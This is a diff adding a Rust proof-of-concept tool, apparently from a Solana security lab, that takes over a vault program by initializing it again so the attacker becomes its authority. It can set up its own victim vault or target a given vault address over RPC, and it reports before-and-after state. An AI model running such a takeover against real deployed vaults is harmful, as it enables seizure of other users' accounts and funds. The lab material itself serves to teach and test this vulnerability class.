@@ -0,0 +1,80 @@
+//! poc-reinitialization: initializes a live vault again, as its new
+//! authority
+//!
+//! ```bash
+//! poc-reinitialization [--rpc URL] [--victim VAULT]
+//! ```
+//!
+//! Without `--victim`, sets up a vault of its own first, initialized by the
+//! owner, who signs nothing after; the takeover is the attacker's alone.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::accounts::VaultConfig;
+use lab_client::reinitialization::Client;
+use lab_client::signers::OWNER;
+use lab_client::{Keypair, Signer};
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+
+/// The fee the vault this sets up charges
+const FEE_PERCENTAGE: u8 = 1;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-reinitialization",
+    about = "Take over a reinitialization vault by initializing it again"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// The vault to take over (default: one this sets up)
+    #[arg(long)]
+    victim: Option<Pubkey>,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("reinitialization")?);
+    let mut report = Report::new("reinitialization", &args.target, &client);
+    let vault = match args.victim {
+        Some(vault) => vault,
+        None => {
+            let vault = Keypair::new();
+            let owner = args.target.signers().keypair(OWNER)?;
+            // The secure layout leads with its discriminator
+            let len = if args.target.secure {
+                VaultConfig::SPACE
+            } else {
+                VaultConfig::LEN
+            };
+            let signature = client.create_account(&vault, len, 0).await?;
+            report.setup(format!("created vault {}", vault.pubkey()), signature);
+            let signature = client
+                .initialize(vault.pubkey(), &owner, FEE_PERCENTAGE)
+                .await?;
+            report.setup(
+                format!("initialized it with {} as its authority", owner.pubkey()),
+                signature,
+            );
+            vault.pubkey()
+        }
+    };
+
+    report.inspect(&client, "before", vault).await?;
+    let takeover = client.exploit_takeover(vault, 0).await;
+    report.inspect(&client, "after", vault).await?;
+    Ok(report.exploit(
+        vault,
+        takeover.map(|_| Exploit {
+            landed: true,
+            outcome: format!("made the attacker {vault}'s authority, charging no fee"),
+            lamports_taken: None,
+        }),
+    ))
+}